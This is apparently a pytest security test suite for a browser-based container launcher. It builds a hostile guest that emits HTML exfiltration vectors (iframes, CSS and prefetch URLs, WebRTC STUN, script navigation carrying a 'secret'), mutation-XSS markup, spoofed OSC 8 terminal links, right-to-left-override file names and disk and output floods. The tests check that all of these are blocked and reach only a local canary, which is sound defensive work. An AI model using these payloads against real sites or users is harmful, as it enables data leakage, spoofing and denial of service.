"""The browser launcher against hostile guests and hostile web pages (issue 22), in real
headless Chromium (Debian's, driven by Playwright).

Each attack runs against a page made by `boxer web` or `boxer serve` from an image built from a
small Dockerfile whose main.py writes the hostile /out files or output. What must hold is
checked where a user (or an attacker) would see it: a canary listener on 127.0.0.1 (a raw TCP
socket that records every connection, a UDP socket for STUN) that must see nothing, the page's
errors, its memory, its DOM and its Web Workers.
"""
from __future__ import annotations

import http.client
import http.server
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest
from playwright.sync_api import sync_playwright

import boxer_py
import chromium
from boxer_py.browser import site
from boxer_py.image import imagefile
from chromium import StaticSite, press_run
from pageclick import click_without_scrolling

MARK = f"boxer-hostile-{uuid.uuid4().hex[:12]}"  # finds this test's browser among the machine's processes
CHROMIUM_ARGS = [*chromium.CHROMIUM_ARGS, f"--user-agent=Mozilla/5.0 {MARK}"]
CHROMIUM = chromium.CHROMIUM
RUN_TIMEOUT_MS = 180_000

DOCKERFILE = """
FROM python:3.12
LABEL org.opencontainers.image.title="report\u202efdp.exe"
WORKDIR /app
COPY main.py .
CMD ["python", "main.py", "busy"]
"""
MAIN = r'''
import os, sys
mode, args = sys.argv[1], sys.argv[2:]
os.makedirs("/out", exist_ok=True)

def out(name, text):
    with open("/out/" + name, "w") as f:
        f.write(text)

if mode == "busy":
    print("spinning", flush=True)
    while True:
        pass

elif mode == "html":
    tcp, udp = args
    canary = f"http://127.0.0.1:{tcp}"
    stun = f"""<script>
const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{udp}"}}]}});
pc.createDataChannel("x");
pc.createOffer().then((o) => pc.setLocalDescription(o));
</script>"""
    navigate = f"""<script>
setTimeout(() => {{ location.href = "{canary}/script-navigation?stdin=" + encodeURIComponent("typed secret"); }}, 500);
</script>"""
    out("attack.html", f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url={canary}/meta-refresh">
<link rel="preconnect" href="{canary}/"><link rel="prefetch" href="{canary}/prefetch">
<link rel="stylesheet" href="{canary}/style.css"><base href="{canary}/">
<style>@import url("{canary}/import.css"); body {{ background: url("{canary}/bg.png"); font-family: x; }}
@font-face {{ font-family: x; src: url("{canary}/font.woff"); }}</style>
</head><body><h1 id="title">a report</h1>
<iframe src="{canary}/iframe"></iframe>
<object data="{canary}/object"></object><embed src="{canary}/embed">
<img src="{canary}/img"><div style="background: url({canary}/css)">bg</div>
<svg><foreignObject width="100" height="100"><iframe src="{canary}/svg-iframe"></iframe></foreignObject></svg>
<div><template shadowrootmode="open"><iframe src="{canary}/shadow-iframe"></iframe></template></div>
<a id="link" href="{canary}/clicked" ping="{canary}/ping">a link</a>
<form action="{canary}/form"><button id="submit">go</button></form>
<svg><a id="svglink" href="{canary}/svg-a"><text y="20">svg link</text></a>
<set attributeName="href" to="{canary}/smil"/></svg>
<noscript><p id="noscript">shown without scripts</p></noscript>
<img attributionsrc="{canary}/attribution" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<p data-next="{canary}/attribute">text</p>
{stun}{navigate}
</body></html>""")
    # markup that parses differently once serialized (mutation XSS): an iframe could reappear
    out("mxss.html", f"""<p>mutations</p><svg><style><iframe src="{canary}/mxss-svg-style"></style></svg>
<math><mtext><table><mglyph><style><iframe src="{canary}/mxss-mglyph"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><iframe src='{canary}/mxss-noscript'>"></p></noscript>
<form><math><mtext></form><form><mglyph><style></math><iframe src="{canary}/mxss-form">""")
    # A file whose scripts the user runs: it reaches out by WebRTC, but does not navigate its
    # frame away (Chromium lets it, the page's frame-src refuses it and the frame becomes an
    # error page), or "#ran" would be there only for that half second.
    out("chart.html", f"""<!doctype html><html><body><h1>chart</h1><p id="ran">no</p>
<script>document.getElementById("ran").textContent = "yes";</script>{stun}</body></html>""")
    print("wrote", sorted(os.listdir("/out")))

elif mode == "osc8":
    tcp, = args
    target = f"http://127.0.0.1:{tcp}/?stdin=secret"
    print(f"docs: \x1b]8;;{target}\x1b\\https://docs.python.org/3/\x1b]8;;\x1b\\ (see there)")
    print(f"plain: http://127.0.0.1:{tcp}/plain-text-url")
    sys.stdout.flush()

elif mode == "flood":
    mib = int(args[0])
    sys.stdout.buffer.write(b"HEAD-MARK\n")
    sys.stderr.buffer.write(b"ERR-HEAD\n")
    chunk = b"x" * 1023 + b"\n"
    block = chunk * 1024
    for _ in range(mib):
        sys.stdout.buffer.write(block)
        sys.stderr.buffer.write(chunk * 2)
    sys.stdout.buffer.write(b"TAIL-MARK\n")
    sys.stderr.buffer.write(b"ERR-TAIL\n")
    sys.stdout.flush()

elif mode == "endless":
    n = 1
    while True:
        sys.stdout.write("".join(f"line {i:012d}\n" for i in range(n, n + 1000)))
        n += 1000

elif mode == "fill":
    mib = int(args[0])
    block = b"\xab" * (1 << 20)
    written = 0
    for i in range(mib):
        try:
            with open(f"/out/big-{i}.bin", "wb") as f:
                f.write(block)
            written += 1
        except BaseException as e:
            print("stopped writing:", type(e).__name__, written, flush=True)
            raise
    print("wrote", written, "MiB", flush=True)

elif mode == "many":
    count = int(args[0])
    os.makedirs("/tmp/many", exist_ok=True)
    for i in range(count):
        open(f"/tmp/many/{i}", "w").close()
    print("made", count, flush=True)

elif mode == "one":
    mib = int(args[0])
    with open("/out/keep.bin", "wb") as f:
        f.write(b"\xcd" * (mib << 20))
    print("kept", mib, "MiB", flush=True)

elif mode == "bidi":
    out("invoice\u202egnp.exe", "MZ not really an exe\n")
    out("plain.txt", "plain\n")
    print("wrote", flush=True)
'''


# --- the canary: anything that reaches 127.0.0.1 outside the page's own server ----------------

class Canary:
    """A TCP listener that records every connection (and its first bytes) and a UDP socket
    that records every datagram (a STUN binding request is one), on 127.0.0.1."""

    def __init__(self):
        self.hits: list[tuple[str, bytes]] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.tcp_port = self.tcp.getsockname()[1]
        self.udp_port = self.udp.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.tcp_port}"
        self.running = True
        self.threads = [threading.Thread(target=self._accept, daemon=True), threading.Thread(target=self._receive, daemon=True)]
        for t in self.threads:
            t.start()

    def _accept(self):
        while self.running:
            try:
                conn, _ = self.tcp.accept()
            except (TimeoutError, OSError):
                continue
            conn.settimeout(0.5)
            try:
                data = conn.recv(300)
            except OSError:
                data = b""
            self.hits.append(("tcp", data))
            conn.close()

    def _receive(self):
        while self.running:
            try:
                data, _ = self.udp.recvfrom(4096)
            except (TimeoutError, OSError):
                continue
            self.hits.append(("udp", data[:40]))

    def settle(self, seconds: float = 2.0) -> list[tuple[str, bytes]]:
        time.sleep(seconds)
        return list(self.hits)

    def close(self):
        self.running = False
        for t in self.threads:
            t.join(timeout=2)
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def canary():
    c = Canary()
    yield c
    c.close()


# --- the browser, the image, the pages -------------------------------------------------------

def launch(p, *extra: str):
    if not CHROMIUM.exists():
        pytest.fail("Debian's chromium is not installed: run `make setup`")
    return p.chromium.launch(executable_path=str(CHROMIUM), args=[*CHROMIUM_ARGS, *extra])


@pytest.fixture(scope="module")
def playwright():
    with sync_playwright() as p:
        yield p


@pytest.fixture(scope="module")
def browser(playwright):
    b = launch(playwright)
    yield b
    b.close()


@pytest.fixture(scope="module")
def hostile_image(tmp_path_factory) -> Path:
    ctx = tmp_path_factory.mktemp("hostile-ctx")
    (ctx / "Dockerfile").write_text(DOCKERFILE)
    (ctx / "main.py").write_text(MAIN)
    out = tmp_path_factory.mktemp("hostile") / "hostile.wasm"
    boxer_py.build(ctx, out, tag="hostile")
    return out


@pytest.fixture
def web_site(boxer, hostile_image, tmp_path):
    """`boxer web IMAGE -o DIR [options]`, served; returns the URL."""
    sites = []

    def make(*options: str) -> str:
        out = tmp_path / f"site{len(sites)}"
        r = boxer("web", str(hostile_image), "-o", str(out), *options)
        assert r.returncode == 0, r.stderr
        s = StaticSite(out)
        sites.append(s)
        return s.url

    yield make
    for s in sites:
        s.close()


# A machine busy enough that compiling the module takes 3 s (the window the attack needs).
# (The site's runtime file is compiled from the moment the page opens: its compile is held until
# the page shows it is compiling, then takes 3 s too.)
SLOW_COMPILE = """(() => { const compile = WebAssembly.compile, streaming = WebAssembly.compileStreaming;
    WebAssembly.compile = (bytes) => new Promise((r) => setTimeout(r, 3000)).then(() => compile(bytes));
    const shown = () => new Promise((resolve) => { const check = () => document.querySelector('#status[data-state="compiling"]')
        ? setTimeout(resolve, 3000) : setTimeout(check, 20); check(); });
    WebAssembly.compileStreaming = (source) => shown().then(() => streaming(source)); })()"""


class Page:
    def __init__(self, browser, url: str, autorun: bool = False, bypass_csp: bool = False, init_script: str = ""):
        self.context = browser.new_context(accept_downloads=True, bypass_csp=bypass_csp)
        self.page = self.context.new_page()
        if init_script:
            self.page.add_init_script(init_script)
        self.errors: list[str] = []
        self.dialogs: list[str] = []
        self.popups: list[str] = []
        self.workers_started = 0
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.on("popup", lambda p: self.popups.append(p.url))
        self.page.on("worker", self._worker)
        self.page.on("dialog", self._dialog)
        self.accept_dialogs = False
        self.page.goto(url if autorun else url + "?run=0")

    def _worker(self, worker):
        self.workers_started += 1

    def _dialog(self, dialog):
        self.dialogs.append(dialog.message)
        if self.accept_dialogs:
            dialog.accept()
        else:
            dialog.dismiss()

    def last_run(self, count: int) -> dict:
        self.page.wait_for_function("n => window.boxer && window.boxer.runs.length >= n && window.boxer.runs[n - 1].done",
                                    arg=count, timeout=RUN_TIMEOUT_MS)
        return self.page.evaluate("n => { const r = window.boxer.runs[n - 1]; "
                                  "return {...r, files: r.files.map(f => f.path)}; }", count)

    def run(self, command: str, timeout: str = "") -> dict:
        self.page.wait_for_selector("#run:not([disabled])", timeout=RUN_TIMEOUT_MS)
        count = self.page.evaluate("() => window.boxer.runs.length")
        self.page.fill("#command", command)
        self.page.fill("#timeout", timeout)
        self.page.click("#run")
        return self.last_run(count + 1)

    TERMINAL_TEXT = """() => { const b = window.boxer.app.terminal.buffer.active; const lines = [];
            for (let i = 0; i < b.length; i++) lines.push(b.getLine(i).translateToString(true));
            return lines.join("\\n"); }"""

    def terminal(self) -> str:
        """The terminal's whole buffer (scrollback included), as text."""
        return self.page.evaluate(self.TERMINAL_TEXT)

    def wait_for_terminal(self, text: str) -> str:
        """The terminal's text once it shows `text`: xterm draws what it is given asynchronously,
        so right after a run ends its last lines may not be in the buffer yet."""
        self.page.wait_for_function(f"(text) => ({self.TERMINAL_TEXT})().includes(text)", arg=text,
                                    timeout=RUN_TIMEOUT_MS)
        return self.terminal()

    def close(self):
        self.context.close()


@pytest.fixture
def open_page(browser):
    pages = []

    def make(url: str, autorun: bool = False, bypass_csp: bool = False, init_script: str = "") -> Page:
        page = Page(browser, url, autorun, bypass_csp, init_script)
        pages.append(page)
        return page

    yield make
    for p in pages:
        p.close()


def _browser_rss() -> int:
    """Resident bytes of this test's Chromium: its browser process and every descendant."""
    return _browser_stat(24) * os.sysconf("SC_PAGE_SIZE")


def _browser_cpu() -> float:
    """CPU seconds (user + system) this test's Chromium and its descendants have used."""
    return (_browser_stat(14) + _browser_stat(15)) / os.sysconf("SC_CLK_TCK")


def _a_core_spins(windows: int = 6) -> bool:
    """True if this test's Chromium kept up with a busy loop in every one of `windows` seconds.

    A worker left spinning takes a core's worth of CPU all the time, as much as a `while True:
    pass` beside it gets on a machine however loaded; the browser's own bursts after a run (code
    caching, tier-up compiles, GC: 1 s of CPU in 3 s was seen in CI) come and go. So the quietest
    second, as a share of the reference loop's, tells the two apart, where a total cannot."""
    loop = subprocess.Popen([sys.executable, "-c", "while True: pass"])
    try:
        quietest, browser, reference = float("inf"), _browser_cpu(), _process_cpu(loop.pid)
        for _ in range(windows):
            time.sleep(1)
            now, now_reference = _browser_cpu(), _process_cpu(loop.pid)
            quietest = min(quietest, (now - browser) / max(now_reference - reference, 0.05))
            browser, reference = now, now_reference
        return quietest >= 0.5
    finally:
        loop.kill()
        loop.wait()


def _process_cpu(pid: int) -> float:
    """CPU seconds (user + system) process `pid` has used."""
    with open(f"/proc/{pid}/stat", "rb") as f:
        fields = f.read().rsplit(b")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _browser_stat(index: int) -> int:
    """The sum of field number `index` of /proc/PID/stat (see proc(5): 14 utime, 15 stime,
    24 rss) over this test's browser process tree."""
    procs: dict[int, tuple[int, int]] = {}
    root = None
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat", "rb") as f:
                fields = f.read().rsplit(b")", 1)[1].split()
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read()
        except OSError:
            continue
        procs[int(entry)] = (int(fields[1]), int(fields[index - 3]))
        if MARK.encode() in cmdline and b"--type=" not in cmdline:
            root = int(entry)
    assert root is not None, "this test's browser process is not found"
    total, todo = 0, [root]
    while todo:
        pid = todo.pop()
        total += procs[pid][1]
        todo.extend(child for child, (ppid, _) in procs.items() if ppid == pid)
    return total


# --- 1: a run that nothing could stop ---------------------------------------------------------

def test_run_pressed_while_the_first_run_compiles_starts_no_second_worker_and_stop_ends_all(web_site, open_page):
    """Before: a second submit during the automatic first run's compile started a second
    worker; the first was never terminated (a core busy forever, Stop powerless)."""
    page = open_page(web_site("--autorun"), autorun=True, init_script=SLOW_COMPILE)
    page.page.wait_for_selector('#status[data-state="compiling"]', timeout=RUN_TIMEOUT_MS)
    assert page.page.evaluate("() => window.boxer.runs[0].done") is False
    assert page.page.is_disabled("#run") and page.page.is_enabled("#stop")  # claimed at submit
    page.page.click("#run", force=True)  # a user's click while it compiles
    for _ in range(3):  # as a fast double click, or a script, would
        page.page.evaluate("() => document.getElementById('run-form').requestSubmit()")
    assert page.page.evaluate("() => window.boxer.runs[0].done") is False  # still compiling
    page.page.wait_for_selector('#status[data-state="running"]', timeout=RUN_TIMEOUT_MS)
    page.page.wait_for_function("() => window.boxer.runs[0].firstOutputMs !== null", timeout=RUN_TIMEOUT_MS)
    time.sleep(1)
    assert page.page.evaluate("() => window.boxer.runs.length") == 1
    assert page.workers_started == 1
    page.page.click("#stop")
    run = page.last_run(1)
    assert (run["exitCode"], run["trap"]) == (137, "stopped")
    page.page.wait_for_function("() => window.boxer.app.workers.size === 0", timeout=60_000)
    assert not _a_core_spins(), "a worker still spins after Stop"
    # Stop right after Run ends that run too (a program that does not end, so Stop finds it
    # whether it is still being set up or already running), and the page still runs the next command.
    page.page.fill("#command", "python -c 'while True: pass'")
    page.page.click("#run")
    page.page.click("#stop")
    run = page.last_run(2)
    assert (run["exitCode"], run["trap"]) == (137, "stopped")
    run = page.run("python main.py bidi")
    assert run["exitCode"] == 0 and run["stdout"] == "wrote\n"
    assert page.errors == []


# --- 2, 3, 9: HTML outputs: no scripts, no WebRTC, no connection, no inline script ------------

def test_html_outputs_are_shown_without_scripts_and_reach_nothing(web_site, open_page, canary):
    page = open_page(web_site())
    run = page.run(f"python main.py html {canary.tcp_port} {canary.udp_port}")
    assert run["exitCode"] == 0, run["stderr"]
    assert run["files"] == ["/out/attack.html", "/out/chart.html", "/out/mxss.html"]
    frames = page.page.locator("#preview iframe")
    # mxss.html: its sanitized markup parses into something else, so it is not shown at all
    assert page.page.locator("#preview figure").nth(2).inner_text().startswith("this file cannot be previewed safely")
    assert frames.count() == 2
    for i in range(2):
        assert frames.nth(i).get_attribute("sandbox") == ""
        assert frames.nth(i).get_attribute("data-scripts") == "off"
    attack = page.page.frame_locator("#preview iframe").first
    assert attack.locator("#title").inner_text() == "a report"  # the markup is shown
    assert attack.locator("#noscript").inner_text() == "shown without scripts"
    chart = page.page.frame_locator("#preview iframe").nth(1)
    assert chart.locator("#ran").inner_text() == "no"  # its script did not run
    # A user clicking the guest's link and button: nothing to navigate to.
    attack.locator("#link").click()
    attack.locator("#svglink").click(force=True)
    assert attack.locator("form, iframe, object, embed, template, link, base, set").count() == 0
    assert attack.locator("meta").evaluate_all("ms => ms.map(m => m.httpEquiv)") == \
        ["Content-Security-Policy", "x-dns-prefetch-control"]
    assert canary.settle(3) == []
    assert page.popups == [] and page.errors == []


def test_running_a_previews_scripts_is_an_explicit_choice_with_its_own_policy(web_site, open_page, canary):
    page = open_page(web_site())
    run = page.run(f"python main.py html {canary.tcp_port} {canary.udp_port}")
    assert run["exitCode"] == 0
    buttons = page.page.locator("#preview .run-scripts")
    assert buttons.count() == 3
    click_without_scrolling(page.page, buttons.nth(1))  # the dialog is dismissed: nothing runs
    assert len(page.dialogs) == 1 and "send data" in page.dialogs[0]
    assert page.page.locator("#preview iframe").nth(1).get_attribute("data-scripts") == "off"
    page.accept_dialogs = True
    click_without_scrolling(page.page, page.page.locator("#preview .run-scripts").nth(1))
    frame_el = page.page.locator('#preview iframe[data-scripts="on"]')
    assert frame_el.get_attribute("sandbox") == "allow-scripts"
    assert frame_el.get_attribute("src") == "preview.html"
    frame = page.page.frame_locator('#preview iframe[data-scripts="on"]')
    frame.locator("#ran:text('yes')").wait_for(timeout=60_000)
    # Its script ran, under preview.html's policy; the page's own policy has no inline script.
    policy = page.page.evaluate("() => document.querySelector('meta[http-equiv=Content-Security-Policy]').content")
    script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
    assert "'unsafe-inline'" not in script_src
    # What Chromium still allows such scripts (the dialog says so): WebRTC and navigation.
    # That is the user's choice for this file; the default preview above sent nothing.


def test_the_page_itself_runs_no_inline_script(web_site, open_page):
    """Before: script-src had 'unsafe-inline', so any HTML injection into the page would run."""
    page = open_page(web_site())
    page.page.wait_for_selector('#status[data-state="ready"]', timeout=RUN_TIMEOUT_MS)
    violations = page.page.evaluate("""async () => {
        const seen = [];
        document.addEventListener("securitypolicyviolation", (e) => seen.push(e.violatedDirective));
        window.pwned = 0;
        document.body.insertAdjacentHTML("beforeend", '<img src="data:," onload="window.pwned += 1">');
        const s = document.createElement("script");
        s.textContent = "window.pwned += 10";
        document.body.append(s);
        const a = document.createElement("a");
        a.href = "javascript:window.pwned += 100";
        document.body.append(a);
        a.click();
        await new Promise((r) => setTimeout(r, 500));
        return {pwned: window.pwned, seen};
    }""")
    assert violations["pwned"] == 0
    assert len(violations["seen"]) >= 2 and all(v.startswith("script-src") for v in violations["seen"])


def test_webrtc_and_blocked_navigation_reach_the_canary_outside_boxer(browser, canary):
    """The control: the canary does see these attacks when nothing stops them, so the tests
    above that see nothing are not blind."""
    ctx = browser.new_context()
    try:
        page = ctx.new_page()
        page.set_content(f"""<iframe src="{canary.url}/control"></iframe><script>
            const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{canary.udp_port}"}}]}});
            pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));</script>""")
        hits = canary.settle(3)
    finally:
        ctx.close()
    assert {kind for kind, _ in hits} == {"tcp", "udp"}


# --- 4: terminal links ------------------------------------------------------------------------

def test_a_guest_hyperlink_in_the_terminal_is_never_opened_and_shows_its_real_target(web_site, open_page, canary):
    page = open_page(web_site())
    page.accept_dialogs = True  # a user who says yes to anything
    run = page.run(f"python main.py osc8 {canary.tcp_port}")
    assert run["exitCode"] == 0
    for text in ["https://docs.python.org/3/", "plain-text-url"]:
        span = page.page.locator(".xterm-rows span", has_text=text).first
        if not span.count():
            span = page.page.locator(".xterm-rows div", has_text=text).first
        box = span.bounding_box()
        x = box["x"] + 8 if text != "plain-text-url" else box["x"] + box["width"] - 8
        page.page.mouse.move(x, box["y"] + box["height"] / 2)
        time.sleep(0.3)
        page.page.mouse.click(x, box["y"] + box["height"] / 2)
        time.sleep(0.5)
        if text.startswith("https"):
            note = page.page.locator("#link-note")
            assert note.is_visible()
            assert f"127.0.0.1:{canary.tcp_port}/?stdin=secret" in note.inner_text()
            assert note.get_attribute("data-clicked") == "true"
    assert canary.settle(2) == []
    assert page.dialogs == [] and page.popups == [] and len(page.context.pages) == 1


# --- 5: output cap ----------------------------------------------------------------------------

def test_a_flood_of_output_is_capped_head_and_tail_kept_and_flagged(web_site, open_page):
    """Before: 700 MiB of stdout gave hundreds of page errors and a silently cut record."""
    page = open_page(web_site("--max-output", "256k"))
    run = page.run("python main.py flood 200")
    assert run["exitCode"] == 0, run["stderr"][-500:]
    assert run["stdoutTruncated"] and run["stderrTruncated"]
    assert run["stdoutBytes"] == 10 + 200 * (1 << 20) + 10
    assert run["stdout"].startswith("HEAD-MARK\n") and run["stdout"].endswith("TAIL-MARK\n")
    assert run["stderr"].startswith("ERR-HEAD\n") and run["stderr"].endswith("ERR-TAIL\n")
    assert len(run["stdout"].encode()) <= 256 << 10 and len(run["stderr"].encode()) <= 256 << 10
    assert page.page.inner_text("#truncated") == "stdout truncated · stderr truncated"
    assert "[boxer: stdout truncated at 262144 bytes: 209715220 bytes written" in \
        page.wait_for_terminal("[boxer: stdout truncated at")
    assert page.errors == []
    # Output within the cap is whole and not flagged.
    run = page.run("python main.py flood 0")
    assert run["stdout"] == "HEAD-MARK\nTAIL-MARK\n" and not run["stdoutTruncated"]
    assert page.page.is_hidden("#truncated")


def test_output_is_capped_by_default_and_a_stopped_flood_keeps_its_tail(web_site, open_page):
    page = open_page(web_site())
    run = page.run("python main.py flood 64")
    assert run["stdoutTruncated"] and len(run["stdout"].encode()) <= 1 << 20
    assert run["stdout"].endswith("TAIL-MARK\n") and page.errors == []
    # A run ended from outside (Stop, as a timeout does) keeps the last tail the worker posted.
    # Stopped once the guest has written 2 MiB (the count the worker posts with each tail), not
    # after a time: a busy machine may write less than the cap in any given time.
    page.page.fill("#command", "python main.py endless")
    page.page.click("#run")
    page.page.wait_for_function("() => window.boxer.runs[1].stdoutBytes > 2 << 20", timeout=RUN_TIMEOUT_MS)
    page.page.click("#stop")
    run = page.last_run(2)
    assert (run["exitCode"], run["trap"]) == (137, "stopped")
    assert run["stdoutTruncated"] and len(run["stdout"].encode()) <= 1 << 20
    assert run["stdout"].startswith("line 000000000001\n")
    last = int(run["stdout"].rstrip("\n").rsplit("\n", 1)[1].split()[1])
    assert last > (1 << 20) // 18, "the tail is not from the end of the stream"
    assert page.errors == []


# --- 6: filesystem cap ------------------------------------------------------------------------

def test_a_guest_filling_the_in_memory_filesystem_is_stopped_at_the_disk_limit(web_site, open_page):
    """Before: a guest wrote 1.5 GiB to /out and the tab grew by 3.4 GB."""
    page = open_page(web_site("--disk", "48m"))
    page.page.wait_for_selector('#status[data-state="ready"]', timeout=RUN_TIMEOUT_MS)
    page.run("python main.py bidi")  # the module is compiled and a run has happened
    before = _browser_rss()
    run = page.run("python main.py fill 1024")
    grown = _browser_rss() - before
    assert run["exitCode"] == 134 and run["diskFull"]
    assert run["trap"] == "wrote more than the 50331648-byte disk limit"
    assert "wrote 1024 MiB" not in run["stdout"]
    kept = page.page.evaluate("() => window.boxer.runs.at(-1).files.reduce((n, f) => n + f.data.byteLength, 0)")
    assert kept <= 48 << 20 and len(run["files"]) <= 49
    assert grown < 600 << 20, f"the browser grew by {grown >> 20} MiB"
    assert page.page.inner_text("#exit-code") == "134"
    assert page.errors == []


def test_creating_entries_without_end_is_stopped(web_site, open_page):
    page = open_page(web_site())
    run = page.run("python main.py many 20000")
    assert run["exitCode"] == 134 and run["diskFull"]
    assert run["trap"] == "created more than 10000 files and directories (the page's limit)"
    run = page.run("python main.py many 2000")
    assert (run["exitCode"], run["stdout"]) == (0, "made 2000\n")


def test_a_runs_files_are_freed_when_the_next_run_starts(web_site, open_page):
    page = open_page(web_site(), bypass_csp=True)  # (so that the test may fetch the blob: URL)
    run = page.run("python main.py one 64")
    assert run["exitCode"] == 0 and run["files"] == ["/out/keep.bin"]
    url = page.page.get_attribute("#files a", "href")
    assert page.page.evaluate("u => fetch(u).then(r => r.arrayBuffer()).then(b => b.byteLength)", url) == 64 << 20
    held = _browser_rss()
    run = page.run("python main.py bidi")
    assert run["exitCode"] == 0
    assert page.page.evaluate("() => window.boxer.runs[0].files") == [{"path": "/out/keep.bin", "size": 64 << 20}]
    assert page.page.evaluate("u => fetch(u).then(() => 'fetched', () => 'revoked')", url) == "revoked"
    page.page.context.new_cdp_session(page.page).send("HeapProfiler.collectGarbage")
    time.sleep(1)
    freed = held - _browser_rss()
    assert freed > 32 << 20, f"only {freed >> 20} MiB freed"


# --- 7: bidi spoofing -------------------------------------------------------------------------

def test_file_names_cannot_spoof_with_bidi_controls(web_site, open_page):
    page = open_page(web_site())
    run = page.run("python main.py bidi")
    assert run["files"] == ["/out/invoice\u202egnp.exe", "/out/plain.txt"]
    link = page.page.locator("#files a").first
    assert link.inner_text() == "/out/invoice[U+202E]gnp.exe"
    assert "\u202e" not in page.page.inner_text("#files")
    assert link.evaluate("a => getComputedStyle(a.querySelector('bdi')).unicodeBidi") == "isolate"
    assert page.page.locator("#files li").first.inner_text().endswith("21 B")
    with page.page.expect_download() as download:
        link.click()
    assert download.value.suggested_filename == "invoicegnp.exe"
    # the image's own strings too (a label is the page's title)
    assert page.page.inner_text("h1") == "report[U+202E]fdp.exe"
    assert page.page.title() == "report[U+202E]fdp.exe · boxer"


# --- 8: DNS rebinding against boxer serve -----------------------------------------------------

def _get(port: int, host: str, path: str = "/image.wasm") -> http.client.HTTPResponse:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    conn.putrequest("GET", path, skip_host=True)
    conn.putheader("Host", host)
    conn.endheaders()
    resp = conn.getresponse()
    resp.body = resp.read()
    conn.close()
    return resp


def test_boxer_serve_answers_only_its_own_host_names(hostile_image, playwright):
    server = site.serve(hostile_image, "127.0.0.1", 0)
    try:
        port = int(server.url.rsplit(":", 1)[1].strip("/"))
        image = hostile_image.read_bytes()
        for host in [f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST:{port}"]:
            resp = _get(port, host)
            assert resp.status == 200 and resp.body == image, host
        for host in [f"evil.example:{port}", "evil.example", f"127.0.0.1:{port + 1}", f"127.0.0.1.evil.example:{port}", ""]:
            resp = _get(port, host)
            assert resp.status == 421 and resp.body.startswith(b"421 "), host
        page = _get(port, f"127.0.0.1:{port}", "/")
        assert page.getheader("Content-Security-Policy").endswith("frame-ancestors 'none'")
        assert "'unsafe-inline'" not in page.getheader("Content-Security-Policy").split("style-src")[0]
        assert page.getheader("Cross-Origin-Opener-Policy") == "same-origin"
        assert page.getheader("Cross-Origin-Resource-Policy") == "same-origin"
        assert page.getheader("Referrer-Policy") == "no-referrer"
        assert page.getheader("X-Frame-Options") == "DENY"
        preview = _get(port, f"127.0.0.1:{port}", "/preview.html")
        assert preview.getheader("Content-Security-Policy") == site.preview_csp() + "; frame-ancestors 'self'"
        assert preview.getheader("X-Frame-Options") == "SAMEORIGIN"   # framed only by the page
        # A real browser on a rebound name: evil.example resolves to 127.0.0.1.
        rebound = launch(playwright, "--host-resolver-rules=MAP evil.example 127.0.0.1")
        try:
            tab = rebound.new_page()
            response = tab.goto(f"http://evil.example:{port}/")
            assert response.status == 421
            status = tab.evaluate("() => fetch('/image.wasm').then(r => r.status)")
            assert status == 421
        finally:
            rebound.close()
    finally:
        server.close()


def test_boxer_serve_cannot_be_framed_by_another_site(hostile_image, open_page):
    server = site.serve(hostile_image, "127.0.0.1", 0)
    other = socket.create_server(("127.0.0.1", 0))
    try:
        import http.server

        framer_html = f'<iframe id="f" src="{server.url}?run=0"></iframe>'.encode()

        class Framer(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(framer_html)))
                self.end_headers()
                self.wfile.write(framer_html)

            def log_message(self, *args):
                pass

        other.close()
        httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Framer)
        threading.Thread(target=httpd.serve_forever, daemon=True).start()
        page = open_page(f"http://127.0.0.1:{httpd.server_address[1]}/x")
        time.sleep(2)
        framed = [f for f in page.page.frames if f != page.page.main_frame]
        assert framed and all(f.url.startswith("chrome-error://") or not f.url.startswith(server.url) for f in framed)
        assert not any(r.startswith("/image.wasm") for r in server.requests)
        httpd.shutdown()
        httpd.server_close()
    finally:
        server.close()


def test_boxer_serve_warns_when_not_on_a_loopback_address(hostile_image, cache_dir):
    # 192.0.2.1 (TEST-NET-1) is on no interface: the warning comes, then the bind fails.
    r = subprocess.run([sys.executable, "-m", "boxer_py", "serve", str(hostile_image), "--host", "192.0.2.1", "--port", "0"],
                       capture_output=True, text=True, timeout=60, env={**os.environ, "BOXER_CACHE_DIR": str(cache_dir)})
    lines = r.stderr.splitlines()
    assert lines[0] == ("boxer: warning: listening on 192.0.2.1, not a loopback address: other machines can load "
                        "the page and the image")
    assert r.returncode == 1 and lines[1].startswith("boxer: cannot listen on 192.0.2.1:0") and "Traceback" not in r.stderr
    assert site.is_loopback("127.0.0.1") and site.is_loopback("localhost") and site.is_loopback("::1")
    assert not site.is_loopback("0.0.0.0") and not site.is_loopback("192.168.1.2")


def test_bad_page_limits_are_refused_in_one_line(boxer, hostile_image, tmp_path):
    for option, value in [("--disk", "lots"), ("--max-output", "0"), ("--max-entries", "0")]:
        r = boxer("web", str(hostile_image), "-o", str(tmp_path / "site"), option, value)
        assert r.returncode != 0 and "Traceback" not in r.stderr and option in r.stderr, r.stderr
        assert not (tmp_path / "site").exists()
    html = site.render_index(imagefile.read(hostile_image), site.page_limits(1 << 20, 2 << 20, 300))
    assert 'data-max-output="1048576" data-disk="2097152" data-max-entries="300"' in html


